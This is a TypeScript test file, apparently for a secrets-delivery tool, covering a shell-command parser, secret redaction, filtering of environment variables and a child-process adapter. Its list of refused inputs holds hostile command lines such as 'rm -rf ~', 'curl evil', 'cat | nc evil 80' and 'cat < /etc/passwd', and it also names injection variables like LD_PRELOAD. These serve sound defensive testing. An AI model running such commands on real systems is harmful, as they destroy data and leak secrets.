// Secrets-manager delivery, the parts without a platform: the shell-words parser (hostile command lines refused, the
// docs' recipes accepted), the redaction of what a command writes, the environment a command gets, and the real
// child-process adapter (secret on stdin only, never argv/env; a hanging command and its children killed at the
// deadline; output capped).
import { test } from 'node:test';
import assert from 'node:assert/strict';
import { mkdtempSync, readFileSync, rmSync, writeFileSync, existsSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { shellWords } from '../../../src-main/services/rotation/delivery-shell-words.ts';
import { MAX_TAIL_CHARS, REDACTED, redactSecret, safeTail, stripControl } from '../../../src-main/adapters/output-redaction.ts';
import { createCommandDelivery, deliveryEnv } from '../../../src-main/adapters/deliver-command.ts';

const SECRET = 'sk_live_CANARYdeliveryQ7w9Z2xL4mN8pR3tV6yB1cF5';

test('shell words: the recipes in docs/secrets-delivery.md split as a shell would', () => {
  const ok = (line: string, argv: string[]) => assert.deepEqual(shellWords(line), { ok: true, argv }, line);
  ok('vault kv put secret/app key=-', ['vault', 'kv', 'put', 'secret/app', 'key=-']);
  ok('aws secretsmanager put-secret-value --secret-id prod/app --secret-string file:///dev/stdin', ['aws', 'secretsmanager', 'put-secret-value', '--secret-id', 'prod/app', '--secret-string', 'file:///dev/stdin']);
  ok('gh secret set SABNODE_KEY --repo acme/app', ['gh', 'secret', 'set', 'SABNODE_KEY', '--repo', 'acme/app']);
  ok("secret-tool store --label='Grantdesk key' service grantdesk account k1", ['secret-tool', 'store', '--label=Grantdesk key', 'service', 'grantdesk', 'account', 'k1']);
  ok('pass insert -m -f grantdesk/key', ['pass', 'insert', '-m', '-f', 'grantdesk/key']);
  ok(`op item edit "SabNode key" 'credential=-'`, ['op', 'item', 'edit', 'SabNode key', 'credential=-']);
  ok(`a\\ b "c \\"d\\" \\$x" 'e$f|g;h' ''`, ['a b', 'c "d" $x', 'e$f|g;h', '']);
  ok("sh -c 'cat > /tmp/x; echo done'", ['sh', '-c', 'cat > /tmp/x; echo done']);
  ok('  tabs\tand   spaces  ', ['tabs', 'and', 'spaces']);
});

test('docs/secrets-delivery.md: every `grantdesk delivery add … --cmd …` line is accepted as written, into a stdin-reading store command', () => {
  const doc = readFileSync(join(import.meta.dirname, '..', '..', '..', 'docs', 'secrets-delivery.md'), 'utf8');
  const lines = doc.split('\n').filter((l) => l.startsWith('grantdesk delivery add ') && !l.startsWith('grantdesk delivery add NAME'));
  const programs: string[] = [];
  for (const line of lines) {
    const outer = shellWords(line);
    assert.ok(outer.ok, `${line}: ${outer.ok ? '' : outer.problem}`);
    const cmd = outer.argv[outer.argv.indexOf('--cmd') + 1]!;
    const inner = shellWords(cmd);
    assert.ok(inner.ok, `${cmd}: ${inner.ok ? '' : inner.problem}`);
    programs.push(inner.argv[0]!.split('/').pop()!);
  }
  for (const store of ['vault', 'aws', 'doppler', 'op-set-credential', 'gh', 'secret-tool', 'pass']) assert.ok(programs.includes(store), `no recipe for ${store}`);
});

test('shell words: anything a shell would expand, chain, redirect or run is refused with a sentence', () => {
  const hostile = [
    'vault kv put secret/app key=- ; rm -rf ~',
    'vault kv put x key=- && curl evil',
    'cat | nc evil 80',
    'cat > /tmp/leak',
    'cat < /etc/passwd',
    'echo $(id)',
    'echo `id`',
    'echo $HOME',
    'echo "$HOME"',
    'echo "`id`"',
    '(cat)',
    'cat &',
    'cat /tmp/*',
    'cat file?',
    'echo {a,b}',
    '~/bin/store',
    '# comment',
    'FOO=bar vault kv put x key=-',
    "echo 'unterminated",
    'echo "unterminated',
    'echo trailing\\',
    'echo one\necho two',
    'echo a\u0000b',
    '',
    '   ',
  ];
  for (const line of hostile) {
    const r = shellWords(line);
    assert.equal(r.ok, false, `accepted: ${JSON.stringify(line)}`);
    if (!r.ok) assert.match(r.problem, /^[A-Z"].*\.$/, `not a sentence: ${r.problem}`);
  }
  assert.equal(shellWords(Array.from({ length: 101 }, () => 'w').join(' ')).ok, false);
});

test('redaction: the secret, its encodings and any 8-character piece of it never survive; control characters go', () => {
  const b64 = Buffer.from(SECRET).toString('base64');
  const hex = Buffer.from(SECRET).toString('hex');
  const text = `echo: ${SECRET}\nb64 ${b64} hex ${hex} url ${encodeURIComponent(SECRET)}\nhalf ${SECRET.slice(10, 30)} tail ${SECRET.slice(-9)}\nfine: exit 1`;
  const out = redactSecret(text, SECRET);
  for (const piece of [SECRET, b64, hex, SECRET.slice(10, 30), SECRET.slice(-9)]) assert.ok(!out.includes(piece), `survived: ${piece}`);
  for (let i = 0; i + 8 <= SECRET.length; i++) assert.ok(!out.includes(SECRET.slice(i, i + 8)), `an 8-char run survived at ${i}`);
  assert.match(out, /fine: exit 1/);
  assert.ok(out.includes(REDACTED));
  assert.equal(stripControl('a\u001b[2J\u001b]0;title\u0007b\rc\u0000d\te\nf'), 'abcd\te\nf');
  const long = safeTail(`${'x'.repeat(5000)}\n${SECRET}`, SECRET);
  assert.ok(long.length <= MAX_TAIL_CHARS + 1 && long.endsWith(REDACTED));
});

test('environment: only the stores\u2019 variables pass; every GRANTDESK_* and anything else is dropped', () => {
  const env = deliveryEnv({
    PATH: '/usr/bin',
    HOME: '/home/u',
    DBUS_SESSION_BUS_ADDRESS: 'unix:path=/run/bus',
    GNUPGHOME: '/g',
    PASSWORD_STORE_DIR: '/p',
    VAULT_ADDR: 'https://vault',
    AWS_PROFILE: 'prod',
    GRANTDESK_HOME: '/data',
    GRANTDESK_KEYCHAIN_SERVICE: 'svc',
    GRANTDESK_TOKEN: 'tok',
    LD_PRELOAD: '/evil.so',
    NODE_OPTIONS: '--require evil',
    SECRET_THING: 'x',
  });
  assert.deepEqual(Object.keys(env).sort(), ['AWS_PROFILE', 'DBUS_SESSION_BUS_ADDRESS', 'GNUPGHOME', 'HOME', 'PASSWORD_STORE_DIR', 'PATH', 'VAULT_ADDR']);
});

test('adapter: the secret reaches stdin exactly (then EOF), never the argv or the environment of the command', async () => {
  const dir = mkdtempSync(join(tmpdir(), 'grantdesk-deliver-'));
  try {
    const delivery = createCommandDelivery({ env: { ...process.env, GRANTDESK_SOME_TOKEN: 'grantdesk-token-canary' } });
    // the command records its own argv (/proc/self/cmdline of the shell), its environment and its stdin
    const script = `cat /proc/$$/cmdline > "${dir}/argv"; env > "${dir}/env"; cat > "${dir}/stdin"`;
    const r = await delivery.run({ argv: ['sh', '-c', script], secret: SECRET, deadlineMs: 20_000 });
    assert.deepEqual(r, { kind: 'exited', exitCode: 0, stderrTail: '' });
    assert.equal(readFileSync(join(dir, 'stdin'), 'utf8'), SECRET, 'stdin carries exactly the secret, no newline');
    assert.ok(!readFileSync(join(dir, 'argv'), 'latin1').includes(SECRET.slice(8, 20)), 'the secret is in argv');
    const env = readFileSync(join(dir, 'env'), 'utf8');
    assert.ok(!env.includes(SECRET.slice(8, 20)), 'the secret is in the environment');
    assert.ok(!env.includes('grantdesk-token-canary') && !/^GRANTDESK_/m.test(env), 'a GRANTDESK_ variable reached the command');
  } finally {
    rmSync(dir, { recursive: true, force: true });
  }
});

test('adapter: a command that echoes the secret to stderr and fails comes back redacted, with its exit code', async () => {
  const r = await createCommandDelivery().run({ argv: ['sh', '-c', 'echo "storing: $(cat)" >&2; echo "vault: permission denied" >&2; exit 2'], secret: SECRET, deadlineMs: 20_000 });
  assert.equal(r.kind, 'exited');
  if (r.kind !== 'exited') return;
  assert.equal(r.exitCode, 2);
  assert.ok(!r.stderrTail.includes(SECRET.slice(8, 20)));
  assert.equal(r.stderrTail, `storing: ${REDACTED}\nvault: permission denied`);
});

test('adapter: a hanging command is stopped at the deadline, its whole process group with it', async () => {
  const dir = mkdtempSync(join(tmpdir(), 'grantdesk-deliver-'));
  try {
    const pidFile = join(dir, 'child.pid');
    // the shell starts a child that ignores SIGTERM and holds the pipes, then waits forever
    const script = `sh -c 'trap "" TERM; sleep 300' & echo $! > "${pidFile}"; cat > /dev/null; wait`;
    const r = await createCommandDelivery().run({ argv: ['sh', '-c', script], secret: SECRET, deadlineMs: 1000 });
    assert.equal(r.kind, 'timeout');
    const pid = Number(readFileSync(pidFile, 'utf8'));
    assert.ok(pid > 0);
    // SIGKILL reaches the group after the grace period; the child is gone (ESRCH) or a zombie awaiting its reaper
    let alive = true;
    for (let i = 0; i < 50 && alive; i++) {
      try {
        process.kill(pid, 0);
        const stat = existsSync(`/proc/${pid}/stat`) ? readFileSync(`/proc/${pid}/stat`, 'utf8') : '';
        alive = !/^\d+ \([^)]*\) Z/.test(stat) && stat !== '';
      } catch {
        alive = false;
      }
      if (alive) await new Promise((res) => setTimeout(res, 100));
    }
    assert.equal(alive, false, 'the child outlived the deadline');
  } finally {
    rmSync(dir, { recursive: true, force: true });
  }
});

test('adapter: a program that does not exist is reported as not started; megabytes of output are capped', async () => {
  const d = createCommandDelivery();
  assert.deepEqual(await d.run({ argv: ['grantdesk-no-such-store-cli'], secret: SECRET, deadlineMs: 5000 }), { kind: 'not_started', detail: 'grantdesk-no-such-store-cli was not found on the PATH' });
  const dir = mkdtempSync(join(tmpdir(), 'grantdesk-deliver-'));
  try {
    writeFileSync(join(dir, 'noise.js'), "process.stdin.resume(); process.stdin.on('end', () => { for (let i = 0; i < 200; i++) process.stderr.write('z'.repeat(50000) + '\\n'); process.exitCode = 5; });");
    const r = await d.run({ argv: [process.execPath, join(dir, 'noise.js')], secret: SECRET, deadlineMs: 30_000 });
    assert.equal(r.kind, 'exited');
    if (r.kind === 'exited') {
      assert.equal(r.exitCode, 5);
      assert.ok(r.stderrTail.length <= MAX_TAIL_CHARS + 1, `tail of ${r.stderrTail.length} chars`);
    }
  } finally {
    rmSync(dir, { recursive: true, force: true });
  }
});
